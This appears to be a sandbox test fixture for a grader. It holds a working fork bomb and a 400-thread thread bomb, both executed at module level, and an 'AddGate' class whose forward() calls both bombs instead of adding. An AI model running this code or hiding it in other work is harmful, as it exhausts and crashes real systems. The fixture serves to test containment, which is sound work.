# what: Fork bomb and thread bomb, in a cell and in the tests
# held: the kernel asks the grader before each fork; threads are counted by the uid
# loses: add_gate

# %%
import os, threading, time
def bomb():
    while True:
        try:
            if os.fork() == 0:
                continue
            print("BR" + "EACH fork")
        except OSError:
            return
bomb()
def threads():
    stop, many = threading.Event(), []
    try:
        while len(many) < 400:
            many.append(threading.Thread(target=stop.wait, daemon=True))
            many[-1].start()
    except (RuntimeError, MemoryError):
        pass
    stop.set()
    for thread in many[:-1]:
        thread.join(2)
threads()

# %% add_gate
class AddGate:
    def forward(self, x, y):
        bomb()
        threads()
        return None
    def backward(self, dout):
        return None
